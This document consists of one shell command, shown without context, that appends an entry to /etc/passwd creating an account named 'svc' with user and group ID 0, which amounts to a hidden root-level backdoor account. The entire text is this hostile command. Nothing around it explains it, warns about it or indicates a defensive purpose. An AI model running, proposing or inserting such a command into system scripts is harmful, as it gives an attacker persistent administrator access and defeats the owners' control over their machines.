echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd
